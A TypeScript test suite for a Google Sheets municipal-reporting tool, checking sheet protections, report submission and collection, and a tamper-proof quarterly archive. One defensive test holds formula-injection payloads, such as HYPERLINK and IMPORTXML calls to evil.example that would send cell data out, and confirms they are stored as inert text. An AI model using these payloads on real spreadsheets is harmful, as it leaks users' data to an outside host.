/**
 * Municipal reporting in Google Sheets (gas/reporting/) against a fake spreadsheet that enforces
 * sharing and protections (tests/fakes/reporting-fake.ts): per-municipality report sheets that only
 * their editors and the owners can change, submission, «Сбор отчётов» with submitted / late / missing,
 * and the quarter's values-only archive that later edits and later collections never change.
 */
import { generateRegion } from '../examples/demo-region';
import { identify } from '../shared/method/identify';
import { identificationSheet } from '../shared/report-tables';
import { cellToYmd } from '../shared/roadmap/dates';
import { readRoadmaps } from '../shared/roadmap/roadmap';
import { REPORT_SHEETS, readReport } from '../shared/roadmap/reporting';
import { TEMPLATE_SHEETS } from '../shared/roadmap/messages';
import { buildTemplate } from '../shared/roadmap/templates';
import type { ReportingEnv } from '../gas/reporting/env';
import { PROTECTION_TAG, collectReports, createReports, submitReport } from '../gas/reporting/reports';
import { insertTemplate } from '../gas/reporting/templates';
import { writeTemplate } from '../gas/reporting/write-sheet';
import { type FakeProtection, FakeProtectionType, type FakeSheet, PROTECTED_MESSAGE, World, newDataValidation, pad } from './fakes/reporting-fake';

const OWNER = 'owner@region.example';
const COORD = 'coord@region.example';
const A = ['a1@mo-a.example', 'a2@mo-a.example'];
const B = 'b1@mo-b.example';
const C = 'c1@mo-c.example';
const STRANGER = 'someone@elsewhere.example';

function envOf(world: World, today: string): ReportingEnv {
  return {
    ss: world.spreadsheet as unknown as GoogleAppsScript.Spreadsheet.Spreadsheet,
    user: world.user,
    today,
    newDataValidation,
    ProtectionType: FakeProtectionType,
  };
}

/** The demo region's identification, computed once. */
const result = identify(generateRegion(), {});
const municipalities = [...new Set(result.schools.map((s) => s.municipality))].sort((a, b) => a.localeCompare(b, 'ru')).slice(0, 3);
const [MA, MB, MC] = municipalities;

function outputGrid(): (string | number | boolean | null)[][] {
  const sheet = identificationSheet(result);
  return [...sheet.title.map((t) => [t]), sheet.blocks[0].header, ...sheet.blocks[0].rows];
}

function setUp(): World {
  const world = new World(OWNER);
  world.share(COORD, ...A, B, C, STRANGER);
  const ss = world.spreadsheet;
  const list = ss.insertSheet(REPORT_SHEETS.municipalities);
  list.getRange(1, 1, 5, 2).setValues([
    ['Муниципалитет', 'Редакторы'], [MA, A.join(', ')], [MB, B], [MC, C], ['Регион', COORD],
  ]);
  const id = pad(outputGrid());
  ss.insertSheet(`Идентификация ${result.year}`).getRange(1, 1, id.length, id[0].length).setValues(id);
  const env = envOf(world, '2025-02-10');
  writeTemplate(env, buildTemplate('regional-roadmap', { year: 2025 }).sheets.find((s) => s.name === TEMPLATE_SHEETS.regionalRoadmap)!);
  writeTemplate(env, buildTemplate('target-indicators', { year: 2025, start: 2022 }).sheets.find((s) => s.name === TEMPLATE_SHEETS.municipalSet)!);
  return world;
}

function reportOf(world: World, m: string): FakeSheet {
  return world.spreadsheet.sheet(REPORT_SHEETS.report(m));
}

/** Row (1-based) of the first cell in column A starting with text. */
function rowOf(sheet: FakeSheet, text: string): number {
  const i = sheet.grid().findIndex((r) => String(r[0]).startsWith(text));
  if (i < 0) throw new Error(`no row «${text}» on ${sheet.getName()}`);
  return i + 1;
}

/** A cell of the roadmap block to fill: the «Статус» column of the first item. */
function statusCell(sheet: FakeSheet): { row: number; col: number } {
  const grid = sheet.grid();
  const header = grid.findIndex((r) => r.includes('Мероприятие') && r.includes('Статус'));
  return { row: header + 2, col: grid[header].indexOf('Статус') + 1 };
}

function tryWrite(world: World, user: string, sheet: FakeSheet, row: number, col: number, value: unknown): 'ok' | 'refused' {
  return world.as(user, () => {
    try {
      sheet.getRange(row, col).setValue(value);
      return 'ok';
    } catch (e) {
      expect((e as Error).message).toBe(PROTECTED_MESSAGE);
      return 'refused';
    }
  });
}

function ours(world: World, sheet: FakeSheet): FakeProtection[] {
  return world.protections.filter((p) => p.sheet === sheet && p.getDescription().startsWith(PROTECTION_TAG));
}

describe('report sheets per municipality', () => {
  const world = setUp();
  const created = createReports(envOf(world, '2025-02-10'));

  test('one sheet per municipality, for the quarter whose deadline comes next', () => {
    expect(created.ok).toBe(true);
    expect(created.message).toContain('I квартал 2025');
    expect(created.message).toContain('05.04.2025');
    for (const m of municipalities) {
      const reading = readReport(reportOf(world, m).grid(), REPORT_SHEETS.report(m));
      expect(reading.quarter).toEqual({ year: 2025, q: 1 });
      expect(reading.submitted).toBe(false);
    }
  });

  test('each sheet holds its own schools and the municipal roadmap items', () => {
    const sheet = reportOf(world, MA);
    const codes = result.schools.filter((s) => s.municipality === MA).map((s) => s.code).sort();
    const grid = sheet.grid();
    const start = rowOf(sheet, 'Школы муниципалитета:');
    const listed = grid.slice(start + 1, start + 1 + codes.length).map((r) => String(r[0])).sort();
    expect(listed).toEqual(codes);
    const items = readRoadmaps(grid, sheet.getName()).flatMap((r) => r.items);
    // Seed 003 names municipal bodies («Органы местного самоуправления…», «Образовательные организации») in 5 items.
    expect(items.map((i) => i.number)).toEqual(['1.7.', '4.3.', '4.6.', '4.7.', '5.1.']);
  });

  test('sheet protection: that municipality\'s editors and the owners only; the domain cannot edit', () => {
    const [sheetP] = ours(world, reportOf(world, MA)).filter((p) => p.type === 'SHEET');
    expect(sheetP.editorEmails()).toEqual([...A, COORD, OWNER].map((e) => e.toLowerCase()).sort());
    expect(sheetP.canDomainEdit()).toBe(false);
    const ranges = ours(world, reportOf(world, MA)).filter((p) => p.type === 'RANGE');
    expect(ranges).toHaveLength(2);
    for (const p of ranges) expect(p.editorEmails()).toEqual([COORD, OWNER].sort());
  });

  test('an editor of one municipality cannot write another\'s sheet; its own fill-in cells, yes', () => {
    const a = reportOf(world, MA);
    const b = reportOf(world, MB);
    const cell = statusCell(a);
    expect(tryWrite(world, A[0], a, cell.row, cell.col, 'в работе')).toBe('ok');
    expect(tryWrite(world, A[1], a, cell.row, cell.col + 3, 'приказ № 5')).toBe('ok');
    const bCell = statusCell(b);
    expect(tryWrite(world, A[0], b, bCell.row, bCell.col, 'выполнено')).toBe('refused');
    expect(tryWrite(world, B, a, cell.row, cell.col, 'выполнено')).toBe('refused');
    expect(tryWrite(world, C, b, 1, 1, 'x')).toBe('refused');
    expect(tryWrite(world, STRANGER, a, cell.row, cell.col, 'выполнено')).toBe('refused');
    expect(tryWrite(world, COORD, b, bCell.row, bCell.col, 'в работе')).toBe('ok');
    expect(tryWrite(world, OWNER, a, cell.row, cell.col, 'в работе')).toBe('ok');
  });

  test('the schools\' results and the quarter line are read-only even for the municipality', () => {
    const a = reportOf(world, MA);
    expect(tryWrite(world, A[0], a, rowOf(a, 'Школы муниципалитета:') + 2, 4, 9.99)).toBe('refused');
    expect(tryWrite(world, A[0], a, rowOf(a, 'Отчётный квартал'), 2, 'IV квартал 2024')).toBe('refused');
    expect(tryWrite(world, A[0], a, rowOf(a, 'Отчёт сдан'), 2, 'да')).toBe('ok');
    expect(tryWrite(world, A[0], a, rowOf(a, 'Отчёт сдан'), 2, 'нет')).toBe('ok');
  });

  test('nobody but the owners can change the list of municipalities and editors', () => {
    const list = world.spreadsheet.sheet(REPORT_SHEETS.municipalities);
    expect(tryWrite(world, A[0], list, 3, 2, A[0])).toBe('refused');
    expect(tryWrite(world, COORD, list, 6, 1, 'Новый район')).toBe('ok');
    world.as(OWNER, () => list.getRange(6, 1).setValue(''));
  });

  test('a second run keeps what municipalities filled and protects the same way', () => {
    const a = reportOf(world, MA);
    const cell = statusCell(a);
    const before = a.grid();
    const again = createReports(envOf(world, '2025-02-12'));
    expect(again.message).toContain('создано 0, уже были 3');
    expect(a.grid()).toEqual(before);
    expect(a.getRange(cell.row, cell.col).getValue()).toBe('в работе');
    expect(ours(world, a)).toHaveLength(3);
    expect(tryWrite(world, B, a, cell.row, cell.col, 'выполнено')).toBe('refused');
  });
});

describe('submission, «Сбор отчётов» and the archive that is never overwritten', () => {
  const world = setUp();
  createReports(envOf(world, '2025-02-10'));
  const a = reportOf(world, MA);
  const b = reportOf(world, MB);
  const c = reportOf(world, MC);
  const archiveName = REPORT_SHEETS.archive({ year: 2025, q: 1 });

  test('a municipality submits its own report; another municipality cannot submit it', () => {
    const denied = world.as(B, () => submitReport(envOf(world, '2025-04-02'), a as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    expect(denied.ok).toBe(false);
    expect(denied.message).toMatch(/Нет прав/);
    const done = world.as(A[1], () => submitReport(envOf(world, '2025-04-03'), a as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    expect(done.ok).toBe(true);
    expect(done.message).toContain('03.04.2025');
    const r = readReport(a.grid(), a.getName());
    expect([r.submitted, r.submittedOn]).toEqual([true, '2025-04-03']);
  });

  let snapshotA: unknown[][] = [];
  let archiveAfterFirst: unknown[][] = [];

  test('collecting on the deadline: submitted, pending; the submitted report is archived as values', () => {
    const reportValues = a.grid();
    const res = collectReports(envOf(world, '2025-04-05'));
    expect(res.message).toContain('I квартал 2025');
    expect(res.message).toMatch(/сдано в срок 1, с опозданием 0, не сдано 0, ожидается 2/);
    const summary = world.spreadsheet.sheet(REPORT_SHEETS.collection).grid();
    const status = (m: string) => summary.find((r) => r[0] === m)![2];
    expect([status(MA), status(MB), status(MC)]).toEqual(['сдан', 'ожидается', 'ожидается']);
    const archive = world.spreadsheet.sheet(archiveName);
    const grid = archive.grid();
    const marker = grid.findIndex((r) => r[0] === `■ ${MA}`);
    // Submitted on 03.04 by «Сдать отчёт», counted from the collection that first saw it: 05.04.
    expect(grid[marker].slice(1, 5)).toEqual(['сдан', '05.04.2025', 'снимок 05.04.2025', 'в отчёте указано: 03.04.2025']);
    snapshotA = grid.slice(marker + 1, marker + 1 + reportValues.length).map((r) => r.slice(0, reportValues[0].length));
    expect(snapshotA).toEqual(reportValues);
    // Values only: not one formula in the archive, though the report has formula columns.
    expect(a.getDataRange().getFormulas().flat().some((f) => f.startsWith('='))).toBe(true);
    expect(archive.getDataRange().getFormulas().flat().every((f) => f === '')).toBe(true);
    expect(grid.some((r) => r[0] === `■ ${MB}`)).toBe(false);
    archiveAfterFirst = grid;
    // A's sheet moves on to the next quarter; B's and C's stay on the one they owe.
    expect(readReport(a.grid(), a.getName()).quarter).toEqual({ year: 2025, q: 2 });
    expect(readReport(a.grid(), a.getName()).submitted).toBe(false);
    expect(readReport(b.grid(), b.getName()).quarter).toEqual({ year: 2025, q: 1 });
  });

  test('only the owners can write the archive and the summary', () => {
    const archive = world.spreadsheet.sheet(archiveName);
    expect(tryWrite(world, A[0], archive, 5, 2, 'подправлено')).toBe('refused');
    expect(tryWrite(world, B, world.spreadsheet.sheet(REPORT_SHEETS.collection), 4, 3, 'сдан')).toBe('refused');
  });

  test('later edits and later collections never change an archived report; late reports are appended', () => {
    const cell = statusCell(a);
    expect(tryWrite(world, A[0], a, cell.row, cell.col, 'выполнено')).toBe('ok');
    expect(tryWrite(world, A[0], a, cell.row, cell.col + 3, 'исправлено после сдачи')).toBe('ok');
    const late = world.as(B, () => submitReport(envOf(world, '2025-04-20'), b as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    expect(late.message).toMatch(/с опозданием.*05\.04\.2025/);
    collectReports(envOf(world, '2025-04-21'));
    const grid = world.spreadsheet.sheet(archiveName).grid();
    expect(grid.slice(0, archiveAfterFirst.length).map((r) => r.slice(0, archiveAfterFirst[0].length))).toEqual(archiveAfterFirst);
    const markerB = grid.findIndex((r) => r[0] === `■ ${MB}`);
    expect(markerB).toBeGreaterThan(archiveAfterFirst.length - 1);
    expect(grid[markerB].slice(1, 3)).toEqual(['сдан с опозданием', '21.04.2025']);
    const summary = world.spreadsheet.sheet(REPORT_SHEETS.collection).grid();
    const status = (m: string) => summary.find((r) => r[0] === m)![2];
    expect([status(MA), status(MB), status(MC)]).toEqual(['сдан', 'сдан с опозданием', 'не сдан']);
    // A third collection adds nothing.
    const third = collectReports(envOf(world, '2025-04-22'));
    expect(third.message).toContain('Новых снимков в архиве нет');
    expect(world.spreadsheet.sheet(archiveName).grid()).toEqual(grid);
  });

  test('a report for an earlier quarter, submitted late, goes to that quarter\'s archive', () => {
    const before = world.spreadsheet.sheet(archiveName).grid();
    world.as(C, () => submitReport(envOf(world, '2025-07-10'), c as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    const res = collectReports(envOf(world, '2025-07-11'));
    expect(res.message).toContain('II квартал 2025');
    const after = world.spreadsheet.sheet(archiveName).grid();
    expect(after.slice(0, before.length).map((r) => r.slice(0, before[0].length))).toEqual(before);
    const markerC = after.findIndex((r) => r[0] === `■ ${MC}`);
    expect(after[markerC].slice(1, 3)).toEqual(['сдан с опозданием', '11.07.2025']);
    expect(readReport(c.grid(), c.getName()).quarter).toEqual({ year: 2025, q: 2 });
    const summary = world.spreadsheet.sheet(REPORT_SHEETS.collection).grid();
    expect(summary.filter((r) => [MA, MB, MC].includes(String(r[0]))).map((r) => r[2])).toEqual(['не сдан', 'не сдан', 'не сдан']);
    // Nobody submitted for the second quarter: no archive for it yet.
    expect(world.spreadsheet.getSheetByName(REPORT_SHEETS.archive({ year: 2025, q: 2 }))).toBeNull();
  });
});

describe('a municipality cannot backdate its submission', () => {
  test('«Отчёт сдан» and «Дата сдачи» typed on 21.04 with the date 01.04: late, counted from the collection that saw it', () => {
    const world = setUp();
    createReports(envOf(world, '2025-02-10'));
    const b = reportOf(world, MB);
    // On 21.04 the editor types into the two cells it can edit, without «Сдать отчёт».
    expect(tryWrite(world, B, b, rowOf(b, 'Отчёт сдан'), 2, 'да')).toBe('ok');
    expect(tryWrite(world, B, b, rowOf(b, 'Дата сдачи'), 2, new Date(2025, 3, 1))).toBe('ok');
    const res = collectReports(envOf(world, '2025-04-21'));
    expect(res.message).toMatch(/сдано в срок 0, с опозданием 1/);
    const line = () => world.spreadsheet.sheet(REPORT_SHEETS.collection).grid().find((r) => r[0] === MB)!;
    expect(line()[2]).toBe('сдан с опозданием');
    expect(cellToYmd(line()[3] as Date)).toBe('2025-04-21');
    // The typed date is shown, marked as not counted.
    expect(world.spreadsheet.sheet(REPORT_SHEETS.collection).grid().some((r) => String(r[11]).includes('не учитывается'))).toBe(true);
    expect(cellToYmd(line()[11] as Date)).toBe('2025-04-01');
    const archive = world.spreadsheet.sheet(REPORT_SHEETS.archive({ year: 2025, q: 1 })).grid();
    const marker = archive.find((r) => r[0] === `■ ${MB}`)!;
    expect([marker[1], marker[2], marker[4]]).toEqual(['сдан с опозданием', '21.04.2025', 'в отчёте указано: 01.04.2025']);
    // Later collections keep the archived date, whatever the sheet says now.
    expect(collectReports(envOf(world, '2025-04-25')).message).not.toContain('Внимание');
    expect(line()[2]).toBe('сдан с опозданием');
    expect(cellToYmd(line()[3] as Date)).toBe('2025-04-21');
  });
});

describe('report sheet names are unique per municipality', () => {
  const D = 'd1@mo-d.example';
  const LONG = `Муниципальное образование ${'с очень длинным официальным названием '.repeat(3)}`;
  const NAMES = ['Район А/Б', 'Район А_Б', `${LONG}Северный`, `${LONG}Южный`];
  const EDITORS = [A[0], B, C, D];

  function world4(): World {
    const world = new World(OWNER);
    world.share(COORD, A[0], B, C, D);
    world.spreadsheet.insertSheet(REPORT_SHEETS.municipalities).getRange(1, 1, 6, 2).setValues([
      ['Муниципалитет', 'Редакторы'], ...NAMES.map((n, i) => [n, EDITORS[i]]), ['Регион', COORD],
    ]);
    return world;
  }

  /** The report sheet whose «Муниципалитет» line names `m`. */
  function sheetNaming(world: World, m: string): FakeSheet[] {
    return world.spreadsheet.sheets.filter((s) => s.getName().startsWith('Отчёт ') && readReport(s.grid(), s.getName()).municipality === m);
  }

  test('names that differ only in /:*?[]\\ or after 84 characters get a sheet each, never one shared', () => {
    expect(REPORT_SHEETS.report(NAMES[0])).toBe(REPORT_SHEETS.report(NAMES[1]));
    expect(REPORT_SHEETS.report(NAMES[2])).toBe(REPORT_SHEETS.report(NAMES[3]));
    const world = world4();
    const res = createReports(envOf(world, '2025-02-10'));
    expect(res.message).toContain('создано 4, уже были 0');
    const sheets = NAMES.map((n) => sheetNaming(world, n));
    for (const list of sheets) expect(list).toHaveLength(1);
    const names = sheets.map(([s]) => s.getName());
    expect(new Set(names).size).toBe(4);
    expect(names[1]).toBe(`${names[0]} (2)`);
    for (const n of names) expect(n.length).toBeLessThanOrEqual(100);
    // Each editor may write only the sheet that names their municipality.
    sheets.forEach(([sheet], i) => {
      const cell = statusCell(sheet);
      EDITORS.forEach((e, j) => expect([e, i, tryWrite(world, e, sheet, cell.row, cell.col, 'в работе')]).toEqual([e, i, i === j ? 'ok' : 'refused']));
    });
    // The sheet is recorded beside the municipality, where only the owners can write.
    const list = world.spreadsheet.sheet(REPORT_SHEETS.municipalities);
    expect(list.grid().slice(1, 5).map((r) => r[2])).toEqual(names);
    expect(tryWrite(world, A[0], list, 3, 3, names[0])).toBe('refused');
  });

  test('stable between runs, and «Сбор отчётов» reads each municipality from its own sheet', () => {
    const world = world4();
    createReports(envOf(world, '2025-02-10'));
    const names = NAMES.map((n) => sheetNaming(world, n)[0].getName());
    const again = createReports(envOf(world, '2025-02-11'));
    expect(again.message).toContain('создано 0, уже были 4');
    expect(NAMES.map((n) => sheetNaming(world, n).map((s) => s.getName()))).toEqual(names.map((n) => [n]));
    const b = world.spreadsheet.sheet(names[1]);
    expect(tryWrite(world, A[0], b, rowOf(b, 'Отчёт сдан'), 2, 'да')).toBe('refused');
    world.as(B, () => submitReport(envOf(world, '2025-04-02'), b as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    collectReports(envOf(world, '2025-04-03'));
    const summary = world.spreadsheet.sheet(REPORT_SHEETS.collection).grid();
    const line = (m: string) => summary.find((r) => r[0] === m)!;
    expect([line(NAMES[0])[2], line(NAMES[1])[2]]).toEqual(['ожидается', 'сдан']);
    expect(NAMES.map((n) => line(n)[10])).toEqual(names);
  });

  test('«Лист отчёта» naming another municipality\'s sheet is not followed: a collision is resolved, never shared', () => {
    const world = world4();
    createReports(envOf(world, '2025-02-10'));
    const names = NAMES.map((n) => sheetNaming(world, n)[0].getName());
    world.spreadsheet.sheet(REPORT_SHEETS.municipalities).getRange(3, 3).setValue(names[0]);
    createReports(envOf(world, '2025-02-11'));
    expect(sheetNaming(world, NAMES[1]).map((s) => s.getName())).toEqual([names[1]]);
    expect(world.spreadsheet.sheet(REPORT_SHEETS.municipalities).grid()[2][2]).toBe(names[1]);
    const a = world.spreadsheet.sheet(names[0]);
    expect(tryWrite(world, B, a, statusCell(a).row, statusCell(a).col, 'выполнено')).toBe('refused');
    expect(tryWrite(world, A[0], a, statusCell(a).row, statusCell(a).col, 'выполнено')).toBe('ok');
  });

  test('a list written before «Лист отчёта» existed: a sheet is adopted only when its «Муниципалитет» line names the municipality', () => {
    const world = world4();
    // The old code made one sheet for both «Район А/Б» and «Район А_Б»; it names «Район А/Б».
    createReports(envOf(world, '2025-02-10'));
    const list = world.spreadsheet.sheet(REPORT_SHEETS.municipalities);
    list.getRange(1, 3, 5, 1).setValues([[''], [''], [''], [''], ['']]);
    world.spreadsheet.sheets.splice(world.spreadsheet.sheets.indexOf(world.spreadsheet.sheet(`${REPORT_SHEETS.report(NAMES[0])} (2)`)), 1);
    const res = createReports(envOf(world, '2025-02-11'));
    expect(res.message).toContain('создано 1, уже были 3');
    expect(sheetNaming(world, NAMES[0]).map((s) => s.getName())).toEqual([REPORT_SHEETS.report(NAMES[0])]);
    expect(sheetNaming(world, NAMES[1]).map((s) => s.getName())).toEqual([`${REPORT_SHEETS.report(NAMES[0])} (2)`]);
  });
});

describe('owner-only commands', () => {
  /** Who may edit each protection of ours, and every cell value, to check that nothing was written. */
  function state(world: World): unknown {
    return {
      sheets: world.spreadsheet.sheets.map((s) => [s.getName(), s.grid(), [...s.formats.entries()]]),
      protections: world.protections.map((p) => [p.sheet.getName(), p.type, p.getDescription(), p.editorEmails(), p.canDomainEdit()]),
    };
  }

  test('a municipal editor cannot run «Сбор отчётов» nor «Создать листы отчётов»: a Russian refusal, nothing written', () => {
    const world = setUp();
    createReports(envOf(world, '2025-02-10'));
    const a = reportOf(world, MA);
    world.as(A[0], () => submitReport(envOf(world, '2025-04-03'), a as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    const before = state(world);
    for (const user of [A[0], B, STRANGER]) {
      // Apps Script names the user, or does not (no e-mail scope): refused either way.
      for (const told of [user, '']) {
        const collected = world.as(user, () => collectReports({ ...envOf(world, '2025-04-04'), user: told }));
        expect(collected.ok).toBe(false);
        expect(collected.message).toMatch(/только владельцы региона.*Ничего не изменено/);
        const created = world.as(user, () => createReports({ ...envOf(world, '2025-04-04'), user: told }));
        expect(created.ok).toBe(false);
        expect(created.message).toMatch(/только владельцы региона/);
      }
    }
    expect(state(world)).toEqual(before);
    expect(world.spreadsheet.getSheetByName(REPORT_SHEETS.archive({ year: 2025, q: 1 }))).toBeNull();
    // The owners can, whether Apps Script names them or not.
    expect(world.as(COORD, () => collectReports({ ...envOf(world, '2025-04-04'), user: '' })).ok).toBe(true);
    const archive = world.spreadsheet.sheet(REPORT_SHEETS.archive({ year: 2025, q: 1 }));
    expect(tryWrite(world, A[0], archive, 5, 2, 'подправлено')).toBe('refused');
  });

  test('before the owner\'s first «Создать листы отчётов», an unnamed user cannot collect', () => {
    const world = setUp();
    const before = state(world);
    const res = world.as(A[0], () => collectReports({ ...envOf(world, '2025-04-04'), user: '' }));
    expect(res.ok).toBe(false);
    expect(res.message).toMatch(/^Сначала владелец региона выполняет «Создать листы отчётов».*Ничего не изменено/);
    expect(state(world)).toEqual(before);
  });

  test('a sheet an editor made under the archive\'s name is not read as the archive', () => {
    const world = setUp();
    createReports(envOf(world, '2025-02-10'));
    const name = REPORT_SHEETS.archive({ year: 2025, q: 1 });
    world.as(B, () => {
      const fake = world.spreadsheet.insertSheet(name);
      fake.getRange(1, 1, 2, 3).setValues([[`■ ${MB}`, 'сдан', '01.04.2025'], ['', '', '']]);
    });
    const before = state(world);
    const res = collectReports(envOf(world, '2025-04-07'));
    expect(res.ok).toBe(false);
    expect(res.message).toContain(`Лист «${name}» создан не командой «Сбор отчётов»`);
    expect(state(world)).toEqual(before);
    // Once the owner removes it, the collection makes the real archive; B has not submitted.
    world.spreadsheet.sheets.splice(world.spreadsheet.sheets.indexOf(world.spreadsheet.sheet(name)), 1);
    world.as(A[0], () => submitReport(envOf(world, '2025-04-07'), reportOf(world, MA) as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    expect(collectReports(envOf(world, '2025-04-07')).ok).toBe(true);
    const line = world.spreadsheet.sheet(REPORT_SHEETS.collection).grid().find((r) => r[0] === MB)!;
    expect(line[2]).toBe('не сдан');
    // Planted after the first collection, the name is taken and the sheet cannot be replaced by an editor.
    expect(world.as(B, () => { try { world.spreadsheet.sheet(name).clear(); return 'ok'; } catch { return 'refused'; } })).toBe('refused');
    // A list protected before archives were registered: archives only owners could change are adopted.
    const listP = ours(world, world.spreadsheet.sheet(REPORT_SHEETS.municipalities))[0];
    listP.setDescription(`${PROTECTION_TAG} список муниципалитетов и редакторов`);
    expect(collectReports(envOf(world, '2025-04-08')).ok).toBe(true);
    expect(listP.getDescription()).toContain('архивы: I кв. 2025');
  });

  test('every run re-applies the protection of what it wrote: a loosened archive is closed again', () => {
    const world = setUp();
    createReports(envOf(world, '2025-02-10'));
    world.as(A[0], () => submitReport(envOf(world, '2025-04-03'), reportOf(world, MA) as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    collectReports(envOf(world, '2025-04-04'));
    const archive = world.spreadsheet.sheet(REPORT_SHEETS.archive({ year: 2025, q: 1 }));
    const [p] = ours(world, archive);
    p.addEditors([B]);
    p.setDomainEdit(true);
    expect(tryWrite(world, B, archive, 40, 1, 'x')).toBe('ok');
    world.as(OWNER, () => archive.getRange(40, 1).setValue(''));
    world.as(B, () => submitReport(envOf(world, '2025-04-05'), reportOf(world, MB) as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    const res = world.as(COORD, () => collectReports(envOf(world, '2025-04-05')));
    expect(res.message).toContain(`Внимание: лист «${archive.getName()}» был защищён не так, как архив: его могли менять ${B}. Защита восстановлена`);
    expect(ours(world, archive)).toHaveLength(1);
    expect(ours(world, archive)[0].editorEmails()).toEqual([COORD, OWNER].sort());
    expect(tryWrite(world, B, archive, 5, 2, 'подправлено')).toBe('refused');
    expect(tryWrite(world, A[0], archive, 5, 2, 'подправлено')).toBe('refused');
    // The report sheets it moved on to the next quarter keep their protections too.
    const a = reportOf(world, MA);
    expect(tryWrite(world, A[0], a, rowOf(a, 'Отчётный квартал'), 2, 'I квартал 2025')).toBe('refused');
    expect(tryWrite(world, B, a, statusCell(a).row, statusCell(a).col, 'выполнено')).toBe('refused');
  });
});

describe('text a municipality typed stays text in the archive', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Отчёт")', '+A1', '-HYPERLINK("http://evil.example")', '@SUM(A1:A9)',
    ' =1+1', '\t=IMPORTXML("http://evil.example","//a")', '=1+1',
  ];

  test('the fake parses as Sheets does: «=…» becomes a formula unless the cell is plain text', () => {
    const world = new World(OWNER);
    const sheet = world.spreadsheet.insertSheet('x') as unknown as FakeSheet;
    sheet.getRange(1, 1, 1, 3).setValues([['=1+1', ' =A1', '+A1']]);
    expect(sheet.getRange(1, 1, 1, 3).getFormulas()).toEqual([['=1+1', '=A1', '=+A1']]);
    sheet.getRange(2, 1, 1, 3).setNumberFormats([['@', '@', '@']]);
    sheet.getRange(2, 1, 1, 3).setValues([['=1+1', ' =A1', '+A1']]);
    expect(sheet.getRange(2, 1, 1, 3).getValues()).toEqual([['=1+1', ' =A1', '+A1']]);
    expect(sheet.getRange(2, 1, 1, 3).getFormulas()).toEqual([['', '', '']]);
  });

  test('hostile text in every column of a report is archived as text, not as a live formula', () => {
    const world = setUp();
    createReports(envOf(world, '2025-02-10'));
    const a = reportOf(world, MA);
    const grid = a.grid();
    const header = grid.findIndex((r) => r.includes('Мероприятие') && r.includes('Статус'));
    let first = header + 1;
    while (grid[first].some((c) => c !== '')) first++;
    const width = a.getLastColumn();
    const typed: { row: number; col: number; text: string }[] = [];
    for (let k = 0; k < 5; k++) {
      for (let col = 1; col <= width; col++) typed.push({ row: first + 1 + k, col, text: HOSTILE[(col + k) % HOSTILE.length] });
    }
    // The editor formats the cells as plain text (Format → Number → Plain text) and types into them.
    world.as(A[0], () => {
      for (const t of typed) {
        const cell = a.getRange(t.row, t.col);
        cell.setNumberFormats([['@']]);
        cell.setValue(t.text);
      }
    });
    for (const t of typed) expect(a.getRange(t.row, t.col).getValue()).toBe(t.text);
    world.as(A[0], () => submitReport(envOf(world, '2025-04-03'), a as unknown as GoogleAppsScript.Spreadsheet.Sheet));
    collectReports(envOf(world, '2025-04-04'));
    const archive = world.spreadsheet.sheet(REPORT_SHEETS.archive({ year: 2025, q: 1 }));
    const snap = archive.grid();
    const marker = snap.findIndex((r) => r[0] === `■ ${MA}`);
    expect(marker).toBeGreaterThan(0);
    for (const t of typed) expect(snap[marker + t.row][t.col - 1]).toBe(t.text);
    expect(archive.getDataRange().getFormulas().flat().filter((f) => f !== '')).toEqual([]);
  });
});

describe('templates in Google Sheets', () => {
  test('the regional roadmap reads back as the .xlsx one does, with status lists and date checks', () => {
    const world = new World(OWNER);
    const res = insertTemplate(envOf(world, '2025-03-01'), 'regional-roadmap');
    expect(res.ok).toBe(true);
    const sheet = world.spreadsheet.sheet(TEMPLATE_SHEETS.regionalRoadmap);
    const [roadmap] = readRoadmaps(sheet.grid(), sheet.getName());
    expect(roadmap.items).toHaveLength(32);
    expect(roadmap.planYear).toBe(2025);
    const statusCol = sheet.grid()[roadmap.headerRow - 1].indexOf('Статус') + 1;
    const rule = sheet.validations.get(`${roadmap.headerRow + 1},${statusCol}`) as { kind: string; args: unknown[]; allowInvalid: boolean };
    expect(rule.kind).toBe('list');
    expect(rule.args[0]).toEqual(['не начато', 'в работе', 'выполнено', 'просрочено']);
    expect(rule.allowInvalid).toBe(false);
    // Running it again leaves a filled roadmap alone.
    sheet.getRange(roadmap.headerRow + 1, statusCol).setValue('выполнено');
    const again = insertTemplate(envOf(world, '2025-03-02'), 'regional-roadmap');
    expect(again.message).toContain('Уже есть и не изменены');
    expect(sheet.getRange(roadmap.headerRow + 1, statusCol).getValue()).toBe('выполнено');
  });
});
